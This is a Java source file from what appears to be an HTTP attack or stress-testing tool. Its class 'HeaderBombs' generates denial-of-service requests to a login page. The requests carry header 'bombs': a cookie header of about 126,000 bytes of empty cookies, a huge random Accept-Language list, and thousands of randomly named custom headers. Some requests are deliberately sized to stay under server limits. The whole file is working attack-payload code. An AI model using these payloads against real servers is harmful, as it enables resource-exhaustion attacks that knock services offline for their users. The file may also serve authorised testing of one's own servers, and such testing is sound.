package io.fastnpc.tools.attack;

import java.util.Random;

/** Heads of as many bytes, and of as many objects, as a listener may take. */
final class HeaderBombs {
  private static final int COOKIE_BYTES = 126_000;
  private static final int LANGUAGE_BYTES = 120_000;
  private static final int SMALL_BYTES = 7_000;

  private HeaderBombs() {}

  /** Cookies of three bytes each, of which a container makes an object each. */
  static Wave cookies(int shots) {
    return new Volley(
        "cookie bombs", dice -> bomb("Cookie: " + some("a=;", dice, COOKIE_BYTES)), shots);
  }

  /** Languages at random. */
  static Wave languages(int shots) {
    return new Volley(
        "language bombs",
        dice -> {
          StringBuilder languages = new StringBuilder("Accept-Language: ");
          for (int bytes = size(dice, LANGUAGE_BYTES); languages.length() < bytes; ) {
            languages
                .append(letters(dice.random()))
                .append(";q=0.")
                .append(dice.below(10))
                .append(',');
          }
          return bomb(languages.toString());
        },
        shots);
  }

  /** Headers with names of their own. */
  static Wave names(int shots) {
    return new Volley(
        "header bombs",
        dice -> {
          StringBuilder head = new StringBuilder("X-0: 0");
          for (int bytes = size(dice, COOKIE_BYTES); head.length() < bytes; ) {
            head.append("\r\nX-")
                .append(letters(dice.random()))
                .append(": ")
                .append(dice.below(10));
          }
          return bomb(head.toString());
        },
        shots);
  }

  private static Shot bomb(String header) {
    return Message.of("GET", "/login.xhtml").header(header).by(Shot.Audience.BROWSER).shot();
  }

  private static String some(String piece, Dice dice, int bytes) {
    return piece.repeat(size(dice, bytes) / piece.length());
  }

  /** Some stay below any limit, since those are taken in. */
  private static int size(Dice dice, int most) {
    return dice.chance(30) ? SMALL_BYTES : most;
  }

  private static String letters(Random random) {
    StringBuilder word = new StringBuilder();
    for (int left = 2 + random.nextInt(7); left > 0; left--) {
      word.append((char) ('a' + random.nextInt(26)));
    }
    return word.toString();
  }
}
